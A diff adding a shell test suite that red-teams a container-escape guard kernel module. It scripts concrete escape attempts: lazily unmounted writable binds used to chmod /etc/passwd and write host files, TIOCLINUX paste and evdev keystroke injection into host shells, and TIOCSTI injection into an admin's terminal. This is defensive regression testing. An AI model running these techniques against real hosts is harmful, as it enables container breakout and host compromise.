@@ -1,0 +1,158 @@
+# Eighth red-team suite (2026-12-04, late night; a helper given only the
+# README and the code): the checks added by 75f43dd (read-only stays
+# read-only; terminal acts on host sessions). Each attack test was a FAIL
+# against that commit (reproduced in the guest):
+#   detached-*        a writable copy of a read-only volume, lazily
+#                     unmounted (umount -l): its mount has no namespace,
+#                     and write_refused() waves it through
+#   vt-paste-compat   TIOCLINUX selection paste into a host shell's console
+#                     through the 32-bit ioctl entry, which reaches
+#                     vt_ioctl() without tty_ioctl()
+#   evdev-keys        key presses written to the host keyboard's evdev node:
+#                     typed into the host shell on the foreground console
+#   carried-rootbind  a host bind of / carried below a read-only host-root
+#                     volume becomes a writable grant of the host root
+#   tty-inject-admin-terminal-fg-container  a container program a host
+#                     admin's shell runs on its own terminal (nsenter)
+#                     TIOCSTIs a command the shell then runs: the owner
+#                     judged was the foreground group's newest member, the
+#                     program itself
+# Every *-refused test is a control that was stopped before (expected PASS).
+. /tests/lib.sh
+insmod "$KO" || { fail redteam8-insmod; exit 0; }
+escguardctl mode enforce
+
+RO_ETC='s|"source": "/",|"source": "/etc",|'
+P0=$(stat -c %a /etc/passwd)
+rm -rf /etc/egr8-*
+
+# ---------------------------------------------------------------------
+# A. Detached mounts. Control first: the writable bind itself is refused
+# (redteam7 setattr-rovolume-write).
+ctr_sed r8a0 priv-hostroot "$RO_ETC" "mount -t tmpfs t /tmp && mkdir /tmp/x && mount --bind /host /tmp/x && egprobe setattr-rw /tmp/x && cd /tmp/x && chmod 4777 passwd; mkdir egr8-a0; echo done"
+if [ "$(stat -c %a /etc/passwd)" = "$P0" ] && [ ! -d /etc/egr8-a0 ]; then pass detached-control-attached-refused
+else fail detached-control-attached-refused "killed=$KILLED passwd $(stat -c %a /etc/passwd)"; chmod "$P0" /etc/passwd; fi
+rm -rf /etc/egr8-*
+
+# A1. The same bind, made writable, then lazily unmounted with the shell's
+# cwd in it: its mount leaves the namespace (mnt_ns NULL).
+ctr_sed r8a1 priv-hostroot "$RO_ETC" "mount -t tmpfs t /tmp && mkdir /tmp/x && mount --bind /host /tmp/x && egprobe setattr-rw /tmp/x && cd /tmp/x && umount -l /tmp/x && chmod 4777 passwd; mkdir egr8-dir; echo evil > egr8-file; ls -ld passwd egr8-dir egr8-file; echo done"
+m=$(stat -c %a /etc/passwd)
+echo "  host: /etc/passwd mode $m; /etc/egr8-dir $([ -d /etc/egr8-dir ] && echo made); /etc/egr8-file: $(cat /etc/egr8-file 2>&1)"
+if [ "$m" = "$P0" ] && [ ! -d /etc/egr8-dir ] && [ ! -s /etc/egr8-file ]; then pass detached-rovolume-write
+else fail detached-rovolume-write "killed=$KILLED events=$(ev_n "$EV"): host /etc/passwd mode $m, dir=$([ -d /etc/egr8-dir ] && echo yes) file=$(cat /etc/egr8-file 2>/dev/null)"; chmod "$P0" /etc/passwd; fi
+rm -rf /etc/egr8-*
+
+# A2. The whole host root read-only at /host: a bind of it made writable
+# and detached. Non-open writes (chmod, mkdir, rename).
+echo victim > /egr8-victim; chmod 644 /egr8-victim
+ctr r8a2 priv-hostroot "mount -t tmpfs t /tmp && mkdir /tmp/x && mount --bind /host /tmp/x && egprobe setattr-rw /tmp/x && cd /tmp/x && umount -l /tmp/x && chmod 4777 egr8-victim; mkdir etc/egr8-dir2; mv egr8-victim egr8-moved; echo done"
+echo "  host: /egr8-victim $(stat -c %a /egr8-victim 2>&1); /egr8-moved $(stat -c %a /egr8-moved 2>&1); /etc/egr8-dir2 $([ -d /etc/egr8-dir2 ] && echo made)"
+if [ -e /egr8-victim ] && [ "$(stat -c %a /egr8-victim)" = 644 ] && [ ! -d /etc/egr8-dir2 ]; then pass detached-hostroot-metadata
+else fail detached-hostroot-metadata "killed=$KILLED events=$(ev_n "$EV"): victim $(stat -c %a /egr8-victim /egr8-moved 2>&1 | tr '\n' ' ') dir2=$([ -d /etc/egr8-dir2 ] && echo yes)"; fi
+rm -rf /egr8-victim /egr8-moved /etc/egr8-*
+
+# A3. The host's /run, carried (writable) below the read-only host-root
+# volume (redteam7 carried-run-mkdir refuses writes there): a bind of it,
+# detached. No mount_setattr needed (mount(2) only: CAP_SYS_ADMIN).
+rm -rf /run/egr8-*
+ctr r8a3 priv-hostroot "mount -t tmpfs t /tmp && mkdir /tmp/r && mount --bind /host/run /tmp/r && cd /tmp/r && umount -l /tmp/r && mkdir egr8-dir && echo evil > egr8-file; echo done"
+echo "  host: /run/egr8-dir $([ -d /run/egr8-dir ] && echo made); /run/egr8-file: $(cat /run/egr8-file 2>&1)"
+if [ ! -d /run/egr8-dir ] && [ ! -s /run/egr8-file ]; then pass detached-carried-run-write
+else fail detached-carried-run-write "killed=$KILLED events=$(ev_n "$EV"): host /run written: dir=$([ -d /run/egr8-dir ] && echo yes) file=$(cat /run/egr8-file 2>/dev/null)"; fi
+rm -rf /run/egr8-*
+# Control: the same bind, attached, is refused.
+ctr r8a3c priv-hostroot "mount -t tmpfs t /tmp && mkdir /tmp/r && mount --bind /host/run /tmp/r && mkdir /tmp/r/egr8-dir; echo done"
+if [ ! -d /run/egr8-dir ]; then pass detached-carried-run-control-attached-refused
+else fail detached-carried-run-control-attached-refused "killed=$KILLED"; fi
+rm -rf /run/egr8-*
+
+# ---------------------------------------------------------------------
+# B. Selection paste into a host root shell on the foreground console.
+echo "  foreground console: $(cat /sys/class/tty/tty0/active 2>&1)"
+rm -f /egr8-paste /egr8-paste64
+setsid sh -c 'exec sh < /dev/tty1 > /dev/null 2>&1' < /dev/null > /dev/null 2>&1 &
+sleep 1
+VSH=$(for c in /proc/[0-9]*; do [ "$(readlink $c/fd/0 2>/dev/null)" = /dev/tty1 ] && echo ${c#/proc/}; done | head -1)
+echo "  host shell on tty1: pid $VSH"
+# B0. Control: the 64-bit ioctl is judged (tty_ioctl hook).
+ctr r8b0 priv "mknod /dev/egtty1 c 4 1 && egprobe vtpaste /dev/egtty1 'id > /egr8-paste64'"
+sleep 1
+if [ ! -e /egr8-paste64 ]; then pass vt-paste-64-refused
+else fail vt-paste-64-refused "killed=$KILLED: host shell ran: $(cat /egr8-paste64)"; fi
+# B1. The same through the 32-bit entry.
+ctr r8b1 priv "mknod /dev/egtty1 c 4 1 && egprobe vtpaste /dev/egtty1 'id > /egr8-paste; readlink /proc/1/root >> /egr8-paste' 32"
+sleep 2
+echo "  host: /egr8-paste: $(cat /egr8-paste 2>&1 | tr '\n' ' ')"
+if [ ! -e /egr8-paste ]; then pass vt-paste-compat
+else fail vt-paste-compat "killed=$KILLED events=$(ev_n "$EV"): the host shell ran the container's command: $(cat /egr8-paste | tr '\n' ' ')"; fi
+
+# ---------------------------------------------------------------------
+# C. Key presses written to the host keyboard's event device: typed into
+# the foreground console, where the host shell reads.
+KBD=$(sed -n '/AT Translated/,/^$/ s/.*Handlers=.*event\([0-9]*\).*/\1/p' /proc/bus/input/devices | head -1)
+echo "  keyboard event device: event$KBD"
+rm -f /egr8-key
+if [ -n "$KBD" ] && [ -n "$VSH" ] && alive "$VSH"; then
+	ctr r8c priv "mknod /dev/egkbd c 13 $((64 + KBD)) && egprobe evtype /dev/egkbd 'id >/egr8-key\n'"
+	sleep 2
+	echo "  host: /egr8-key: $(cat /egr8-key 2>&1)"
+	if [ ! -e /egr8-key ]; then pass evdev-keys-host-shell
+	else fail evdev-keys-host-shell "killed=$KILLED events=$(ev_n "$EV"): the host shell ran the typed command: $(cat /egr8-key)"; fi
+else
+	fail evdev-keys-host-shell "no keyboard event device ($KBD) or no host shell on tty1"
+fi
+kill "$VSH" 2>/dev/null
+
+# ---------------------------------------------------------------------
+# D. A host bind of / (here /egr8root) carried, writable, below the
+# read-only host-root volume: its root (the host root's inode) becomes a
+# writable grant, so a writable bind of /host/etc is "granted".
+mkdir -p /egr8root && mount --bind / /egr8root
+ctr r8d priv-hostroot "mount -t tmpfs t /tmp && mkdir /tmp/x && mount --bind /host/etc /tmp/x && egprobe setattr-rw /tmp/x && chmod 4777 /tmp/x/passwd; echo evil > /tmp/x/egr8-carried; echo done"
+m=$(stat -c %a /etc/passwd)
+echo "  host: /etc/passwd mode $m; /etc/egr8-carried: $(cat /etc/egr8-carried 2>&1)"
+if [ "$m" = "$P0" ] && [ ! -s /etc/egr8-carried ]; then pass carried-rootbind-grant
+else fail carried-rootbind-grant "killed=$KILLED events=$(ev_n "$EV"): host /etc/passwd mode $m file=$(cat /etc/egr8-carried 2>/dev/null)"; chmod "$P0" /etc/passwd; fi
+# Control: the direct path through the carried bind is refused.
+ctr r8d2 priv-hostroot "chmod 4777 /host/egr8root/etc/passwd; echo done"
+if [ "$(stat -c %a /etc/passwd)" = "$P0" ]; then pass carried-rootbind-direct-refused
+else fail carried-rootbind-direct-refused "killed=$KILLED"; chmod "$P0" /etc/passwd; fi
+umount /egr8root; rmdir /egr8root; rm -rf /etc/egr8-*
+
+# ---------------------------------------------------------------------
+# F. A host admin's shell runs a container's program on its own terminal
+# (`nsenter -t <ctr> ...`, `runc exec` without --tty): the program (the
+# container's code) is in the shell's foreground process group, as its
+# newest member, and pushes a command into the terminal with TIOCSTI; the
+# host shell reads it once the program exits. The owner judged is the
+# group's first task, which is its newest: the container's program.
+# Unprivileged container (TIOCSTI on one's own controlling terminal needs
+# no capability).
+rm -f /egr8-ns
+make_bundle r8nsctr 'sleep 120'
+runc run -d --bundle /run/bundles/r8nsctr r8nsctr < /dev/null > /dev/null 2>&1
+sleep 1
+CP=$(runc state r8nsctr 2>/dev/null | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
+echo "  container init: pid $CP"
+cat > /egr8-admin.sh <<EOS
+nsenter -t $CP -m -u -i -n -p -r -w /usr/bin/egprobe tty /dev/tty inject 'id > /egr8-ns; readlink /proc/1/root >> /egr8-ns\n' > /egr8-admin.out 2>&1
+EOS
+drain_events; _k0=$(kills)
+setsid sh -c 'exec sh < /dev/tty3 > /dev/null 2>&1' < /dev/null > /dev/null 2>&1 &
+sleep 1
+ASH=$(for c in /proc/[0-9]*; do [ "$(readlink $c/fd/0 2>/dev/null)" = /dev/tty3 ] && echo ${c#/proc/}; done | head -1)
+echo "  host admin shell on tty3: pid $ASH"
+egprobe tty /dev/tty3 inject 'sh /egr8-admin.sh\n' > /dev/null
+sleep 3
+EV=$(events_json); KILLED=no; [ "$(kills)" = "$_k0" ] || KILLED=yes
+echo "  nsenter'd program: $(cat /egr8-admin.out 2>&1 | tr '\n' ' ')"
+echo "  host: /egr8-ns: $(cat /egr8-ns 2>&1 | tr '\n' ' ')"
+show_ev "$EV"
+if [ ! -e /egr8-ns ]; then pass tty-inject-admin-terminal-fg-container
+else fail tty-inject-admin-terminal-fg-container "killed=$KILLED events=$(ev_n "$EV"): the host admin's shell ran the container's command: $(cat /egr8-ns | tr '\n' ' ')"; fi
+kill "$ASH" 2>/dev/null
+runc kill r8nsctr KILL 2>/dev/null; sleep 0.5; runc delete -f r8nsctr 2>/dev/null
+rm -f /egr8-ns /egr8-admin.sh /egr8-admin.out
+
+escguardctl unlock && rmmod escguard || fail redteam8-rmmod
